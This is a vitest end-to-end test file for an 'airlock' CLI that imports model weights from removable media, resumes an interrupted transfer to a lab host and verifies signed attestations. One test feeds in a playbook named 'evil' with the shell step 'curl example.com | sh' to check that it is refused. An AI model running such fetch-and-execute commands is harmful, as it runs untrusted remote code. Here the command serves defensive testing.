import crypto from 'node:crypto';
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authorizeKey, labDown, labUp, runOnHost, type Lab } from '../lab/lab';

/**
 * The operator's path through the real `airlock` command: import from removable media, apply,
 * Airlock killed mid-transfer (SIGKILL), status after restart, resume, attestation export and
 * offline verification.
 */
const root = path.resolve(__dirname, '../..');
const LAB = 'iprovcli';
const PASSWORD = 'correct horse battery staple';
let data: string;
let media: string;
let lab: Lab;
const env = () => ({ ...process.env, AIRLOCK_USER: 'alice', AIRLOCK_PASSWORD: PASSWORD, AIRLOCK_MEDIA_ROOTS: media, AIRLOCK_TOTP_POLICY: 'off' });

function airlock(args: string[]) {
  const r = spawnSync(process.execPath, [path.join(root, 'bin/airlock.mjs'), ...args, '--data', data], { encoding: 'utf8', env: env(), input: '', timeout: 120_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, json: () => JSON.parse(r.stdout) };
}

beforeAll(async () => {
  expect(spawnSync(process.execPath, [path.join(root, 'scripts/build.mjs')], { stdio: 'inherit' }).status).toBe(0);
  data = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-provcli-'));
  media = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-media-'));
  lab = await labUp({ id: LAB, hosts: 1 });
  expect(airlock(['init', '--admin', 'alice']).code).toBe(0);
  await authorizeKey(lab, airlock(['identity', 'show']).stdout.trim());
  const h = lab.hosts[0]!;
  expect(airlock(['hosts', 'add', 'host1', '--address', h.address, '--port', String(h.port), '--user', h.user, '--fingerprint', h.fingerprint]).code).toBe(0);
}, 240_000);

afterAll(async () => {
  await labDown({ id: LAB });
  for (const d of [data, media]) if (d) fs.rmSync(d, { recursive: true, force: true });
});

describe('provisioning from the CLI', () => {
  const size = 160 * 1024 * 1024;
  let digest = '';

  it('imports a model from media, refuses media outside the roots', () => {
    const dir = path.join(media, 'usb', 'model');
    fs.mkdirSync(dir, { recursive: true });
    const f = path.join(dir, 'weights.bin');
    // Written in pieces so the test does not hold 160 MiB twice.
    const fd = fs.openSync(f, 'w');
    const hash = crypto.createHash('sha256');
    for (let i = 0; i < size / (4 << 20); i++) {
      const b = crypto.randomBytes(4 << 20);
      hash.update(b);
      fs.writeSync(fd, b);
    }
    fs.closeSync(fd);
    digest = hash.digest('hex');
    fs.writeFileSync(path.join(dir, 'SHA256SUMS'), `${digest}  weights.bin\n`);
    const outside = airlock(['store', 'import-model', os.tmpdir(), '--name', 'm', '--version', '1']);
    expect(outside.code).toBe(1);
    expect(outside.stderr).toContain('FORBIDDEN');
    const r = airlock(['store', 'import-model', dir, '--name', 'big-llm', '--version', '7', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.json()).toMatchObject({ name: 'big-llm', version: '7', size });
    const pb = path.join(data, 'pb.json');
    fs.writeFileSync(
      pb,
      JSON.stringify({ format: 'airlock.playbook/v1', name: 'weights-only', version: '1', steps: [{ id: 'model', type: 'model-weights', params: { model: 'big-llm', version: '7', connections: 1, channelsPerConnection: 1 } }] }),
    );
    expect(airlock(['provision', 'import-playbook', pb]).code).toBe(0);
    const bad = path.join(data, 'bad.json');
    fs.writeFileSync(bad, JSON.stringify({ format: 'airlock.playbook/v1', name: 'evil', version: '1', steps: [{ id: 'x', type: 'shell', params: { run: 'curl example.com | sh' } }] }));
    const refused = airlock(['provision', 'import-playbook', bad]);
    expect(refused.code).toBe(2); // INVALID_INPUT: the operator's file is refused, nothing ran
    expect(refused.stderr).toMatch(/unknown type "shell"/);
  });

  it('Airlock killed mid-transfer: the run shows exactly where it stopped, and resume finishes it', async () => {
    const child = spawn(process.execPath, [path.join(root, 'bin/airlock.mjs'), 'provision', 'apply', '--playbook', 'weights-only', '--hosts', 'host1', '--data', data], {
      env: env(),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let err = '';
    let killedAt = -1;
    await new Promise<void>((resolve) => {
      child.stderr.on('data', (b: Buffer) => {
        err += b.toString();
        const m = [...err.matchAll(/host1 model: apply \S+ (\d+)%/g)].pop();
        if (m && Number(m[1]) >= 5 && killedAt < 0) {
          killedAt = Number(m[1]);
          child.kill('SIGKILL');
        }
      });
      child.on('exit', () => resolve());
    });
    expect(killedAt, `the CLI printed:\n${err}`).toBeGreaterThanOrEqual(5);
    expect(killedAt).toBeLessThan(100);

    const runs = airlock(['provision', 'runs', '--json']).json() as Array<{ id: string; status: string }>;
    expect(runs[0]!.status).toBe('interrupted');
    const st = airlock(['provision', 'status', runs[0]!.id, '--json']).json();
    expect(st.hosts[0].status).toBe('interrupted');
    expect(st.hosts[0].steps[0]).toMatchObject({ stepId: 'model', status: 'interrupted', phase: 'apply' });
    const part = Number((await runOnHost(lab, 'host1', ['stat', '-c', '%s', '/srv/models/big-llm/7/weights.bin.airlock-part'])).stdout.trim());
    expect(part).toBeGreaterThan(0);

    const r = airlock(['provision', 'resume', runs[0]!.id, '--json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const done = r.json();
    expect(done).toMatchObject({ status: 'succeeded', attempts: 2 });
    const m = done.hosts[0].steps[0];
    expect(m.status).toBe('changed');
    expect(m.transfer.done).toBe(size);
    expect(m.transfer.sent).toBeLessThan(size);
    expect(m.output).toContain('resumed');
    expect((await runOnHost(lab, 'host1', ['sha256sum', '/srv/models/big-llm/7/weights.bin'])).stdout).toContain(digest);
  });

  it('exports the attestation and verifies it online and offline; a tampered copy fails', () => {
    const file = path.join(data, 'att.json');
    expect(airlock(['attest', 'show', '--host', 'host1', '--out', file]).code).toBe(0);
    const ok = airlock(['attest', 'verify', file]);
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    expect(ok.stdout).toMatch(/^OK: attestation for host1 signed by SHA256:/);
    const pem = path.join(data, 'attest.pem');
    const key = airlock(['attest', 'key', '--json']).json();
    fs.writeFileSync(pem, key.publicKey);
    // Offline: no data directory of this console is needed.
    const offline = spawnSync(process.execPath, [path.join(root, 'bin/airlock.mjs'), 'attest', 'verify', file, '--key', pem, '--data', fs.mkdtempSync(path.join(os.tmpdir(), 'empty-'))], {
      encoding: 'utf8',
    });
    expect(offline.status, offline.stderr).toBe(0);
    const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
    doc.attestation.facts.model.facts.files[0].sha256 = '0'.repeat(64);
    fs.writeFileSync(file, JSON.stringify(doc));
    const bad = airlock(['attest', 'verify', file]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(/NOT VERIFIED[\s\S]*signature does not match/);
  });
});
